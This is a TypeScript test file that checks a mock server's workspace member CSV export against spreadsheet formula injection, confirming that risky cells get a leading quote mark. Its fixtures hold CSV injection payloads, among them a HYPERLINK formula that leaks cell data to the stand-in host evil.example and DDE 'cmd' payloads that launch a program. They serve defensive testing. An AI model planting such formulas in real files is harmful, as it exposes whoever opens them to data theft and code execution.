import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningMockServer } from '../../src/mock-server/mock-server.js';
import { ManualClock } from '../../src/mock-server/state/clock.js';
import { gql, ok } from '../support/client.js';
import type { Actor } from '../support/world.js';
import { createWorkspaceOf, joinAs, registerPerson, startPeopleMock } from '../mock/workspaces/people.js';

/**
 * CSV injection (OWASP): a cell that starts with `=`, `+`, `-`, `@`, a tab or a CR is a formula to
 * a spreadsheet. A member who names themselves `=HYPERLINK(...)` must not run code on the admin
 * who opens the export: such cells are written with a leading `'`. A spreadsheet that splits on
 * another separator (`;` in the locales whose decimal mark is a comma, a tab) starts a cell in
 * the middle of `Bob;=1+1`: a `'` goes after each separator a formula character follows.
 */

const clock = new ManualClock(Date.parse('2026-05-04T08:30:00Z'));
let mock: RunningMockServer;
let owner: Actor;
let w: string;
const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
/** Display names with a formula after a separator, and how each is written. */
const inside: readonly (readonly [string, string])[] = [
  ['Bob;=1+1', "Bob;'=1+1"],
  ["x,=cmd|' /C calc'!A0", "x,'=cmd|' /C calc'!A0"],
  ['Ann; -2+3', "Ann;' -2+3"],
  ['Quo;"=1+1', 'Quo;"\'=1+1'],
  ['=1;@SUM(A1)', "'=1;'@SUM(A1)"],
];
/** Job titles (set in the table: a tab or a line break cannot reach a display name) and how each is written. */
const titles: readonly (readonly [string, string])[] = [
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['Dev\t=1+1', "Dev\t'=1+1"],
  ['QA\n@SUM(A1)', "QA\n'@SUM(A1)"],
  ['Ops\r\n+1', "Ops\r\n'+1"],
  ['Lead;\t@SUM(A1)', "Lead;'\t'@SUM(A1)"],
];

beforeAll(async () => {
  mock = await startPeopleMock(clock);
  owner = await registerPerson(mock.url, 'Olive Owner', 'olive');
  w = await createWorkspaceOf(mock.url, owner);
  const people = await Promise.all([...formulas, ...inside.map(([name]) => name)].map((name, index) => registerPerson(mock.url, name, `f${index}`)));
  for (const person of people) await joinAs(mock.url, owner, w, person, 'MEMBER');
  // A tab or a CR cannot start a display name (refused at the door); a job title has no API yet.
  titles.forEach(([title], index) => mock.state.workspaces.arrangeMember(w, people[index]!.id, { jobTitle: title }));
});
afterAll(() => mock.close());

const exportCsv = async () =>
  ok(await gql<{ exportWorkspaceMembersCsv: string }>(mock.url, 'query($w: ID!) { exportWorkspaceMembersCsv(workspaceId: $w) }', { w }, owner.token)).exportWorkspaceMembersCsv;

describe('exportWorkspaceMembersCsv and formulas', () => {
  it('prefixes every cell that starts with =, +, -, @, tab or CR with a quote mark', async () => {
    const records = parse(await exportCsv(), { record_delimiter: '\r\n' }) as string[][];
    const header = records[0]!;
    const displayName = header.indexOf('displayName');
    const jobTitle = header.indexOf('jobTitle');
    const names = records.slice(1).map((record) => record[displayName]);
    for (const formula of formulas) expect(names).toContain(`'${formula}`);
    const written = records.slice(1).map((record) => record[jobTitle]);
    // A tab or a CR is a separator too, so a formula after it gets its own quote mark.
    expect(written).toContain("'\t'=1+1");
    expect(written).toContain("'\r'=1+1");
  });

  it('puts a quote mark after a separator (, ; tab, line break, ") that a formula character follows, and quotes that cell', async () => {
    const text = await exportCsv();
    const records = parse(text, { record_delimiter: '\r\n' }) as string[][];
    const header = records[0]!;
    const names = records.slice(1).map((record) => record[header.indexOf('displayName')]);
    for (const [, written] of inside) expect(names).toContain(written);
    const jobs = records.slice(1).map((record) => record[header.indexOf('jobTitle')]);
    for (const [, written] of titles) expect(jobs).toContain(written);
    // In double quotes, as OWASP advises, even where RFC 4180 needs none (`;`).
    expect(text).toContain(`"Bob;'=1+1"`);
    expect(text).toContain(`"Ann;' -2+3"`);
  });

  it.each([
    ['a semicolon (the locales whose decimal mark is a comma)', ';'],
    ['a tab', '\t'],
    ['a comma, quotes ignored', ','],
  ])('starts no cell with a formula in a spreadsheet that splits lines on %s', async (_name, separator) => {
    // The most trusting reader: every separator and every line break starts a cell, and a quote
    // opens a field only at its start (a spreadsheet reads a quote anywhere else as a character).
    const cells = (await exportCsv()).split(new RegExp(`\r\n|\r|\n|${separator}`));
    for (const cell of cells) expect(/^"*[ ]*[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('leaves every other cell as stored (the owner, the ISO dates, the booleans)', async () => {
    const records = parse(await exportCsv(), { record_delimiter: '\r\n' }) as string[][];
    const header = records[0]!;
    const cells = records.slice(1).flat();
    expect(cells).toContain('Olive Owner');
    expect(records[1]![header.indexOf('joinedAt')]).toBe('2026-05-04T08:30:00.000Z');
    for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
  });
});
